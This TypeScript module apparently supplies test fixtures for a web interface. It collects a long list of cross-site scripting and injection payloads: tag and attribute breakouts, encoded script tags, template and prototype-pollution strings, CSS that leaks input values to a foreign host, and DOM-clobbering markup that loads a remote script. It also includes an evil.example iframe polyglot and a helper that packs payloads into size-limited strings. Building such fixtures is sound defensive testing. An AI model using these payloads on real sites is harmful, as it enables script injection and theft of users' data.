import { call, foreignUrl, lines, markupPayloads } from './markup-payloads.ts';

const breakouts = lines`
  "><script>${call}</script>
  '><script>${call}</script>
  "><img src=x onerror=${call}>
  '"><svg/onload=${call}>
  " onmouseover="${call}
  ' onmouseover='${call}
  " autofocus onfocus="${call}
  ' autofocus tabindex=1 onfocus='${call}
  x onerror=${call}
  x" onerror="${call}" y="
  ${'`'}><img src=x onerror=${call}>
  ${'`'} onmouseover=${call}
  --><script>${call}</script>
  ]]><script>${call}</script>
  */${call}/*
  ';${call}//
  ";${call}//
  \';${call}//
  \";${call}//
  ');${call};//
  '+${call}+'
  "-${call}-"
  ${'`'};${call};//
  };${call};{
  \u003cscript\u003e${call}\u003c/script\u003e
  \x3cscript\x3e${call}\x3c/script\x3e
  \74script\76${call}\74/script\76
  %3Cscript%3E${call}%3C/script%3E
  %253Cscript%253E${call}%253C/script%253E
  &lt;script&gt;${call}&lt;/script&gt;
  &#60;script&#62;${call}&#60;/script&#62;
  &#x3c;script&#x3e;${call}&#x3c;/script&#x3e;
  &amp;lt;script&amp;gt;${call}
  +ADw-script+AD4-${call}+ADw-/script+AD4-
  ＜script＞${call}＜/script＞
  ‹script›${call}‹/script›
  ;${call};
  0;${call}
  ><
  <
  <x
  <!--
`;

const templates = lines`
  {{constructor.constructor('${call}')()}}
  {{$on.constructor('${call}')()}}
  {{7*7}}{{'a'.constructor.prototype.charAt=[].join}}
  {{#with "s" as |string|}}{{/with}}
  ${'$'}{${call}}
  ${'$'}{{${call}}}
  #{${call}}
  <%= ${call} %>
  <% ${call} %>
  [[${call}]]
  {%25 print(1) %25}
  {% include "${foreignUrl}/t" %}
  *{${call}}
  @{${call}}
  <div v-html="'<img src=x onerror=${call}>'"></div>
  <div ng-app ng-csp>{{$eval.constructor('${call}')()}}</div>
  <div ng-focus=${call} tabindex=1>x</div>
  <div x-data x-init="${call}"></div>
  <div data-bind="html:'<img src=x onerror=${call}>'"></div>
  <button data-action="${call}" popover>x</button>
  {"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}
  {"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"${foreignUrl}/r.js"}}
  {"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}
  __proto__[innerHTML]=<img/src/onerror=${call}>
  constructor[prototype][x]=${call}
`;

const styles = lines`
  <style>@import '${foreignUrl}/c.css';</style>
  <style>body{background:url(${foreignUrl}/bg.png)}</style>
  <style>*{x:expression(${call})}</style>
  <style>@font-face{font-family:x;src:url(${foreignUrl}/f)}*{font-family:x}</style>
  <style>input[value^=a]{background:url(${foreignUrl}/leak?a)}</style>
  <div style="background:url(${foreignUrl}/s)">x</div>
  <div style="width:expression(${call})">x</div>
  <div style="behavior:url(${foreignUrl}/h.htc)">x</div>
  <div style="-moz-binding:url(${foreignUrl}/x.xml#y)">x</div>
  <div style="position:fixed;inset:0;z-index:99999"><a href=${foreignUrl}>x</a></div>
  <img style="list-style:url(javascript:${call})" src=x>
  <link rel=stylesheet href=data:,*%7bx:expression(${call})%7d>
`;

const clobbers = lines`
  <form id=kallos-remotes><input name=textContent></form>
  <a id=kallosIntegrity href=${foreignUrl}>x</a>
  <img name=body><img name=head>
  <form name=localStorage><input name=getItem></form>
  <iframe name=location src=${foreignUrl}></iframe>
  <div id=root></div><div id=main></div>
  <script id=kallos-remotes type=application/json>{"remotes":[{"entry":"${foreignUrl}/x.js"}]}</script>
`;

const strange = [
  '\u202e<script>alert(1)</script>\u202c',
  '\u200b<\u200bscript>alert(1)</script>',
  'x\ufeff<img src=x onerror=alert(1)>',
  'Ω\u0301\u0301\u0301<svg onload=alert(1)>',
  '😀"><img src=x onerror=alert(1)>😀',
  'ﬀ<ſcript>alert(1)</ſcript>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</scRipt/--!>\\x3csVg/oNloAd=alert(1)//>',
  '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
  '\'">><script>alert(1)</script><iframe src=//evil.example></iframe>{{7*7}}${7*7}',
];

/**
 * Texts that would run a script, load a foreign file or change the page if a screen rendered them as markup.
 */
export const scriptPayloads: readonly string[] = [
  ...markupPayloads,
  ...breakouts,
  ...templates,
  ...styles,
  ...clobbers,
  ...strange,
];

/** Packs all payloads into as few texts as possible, each at most `limit` characters long. */
export function packPayloads(limit: number): string[] {
  const packs: string[] = [];
  for (const payload of scriptPayloads) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + payload.length < limit)
      packs[packs.length - 1] = `${last} ${payload}`;
    else packs.push(payload);
  }
  return packs;
}
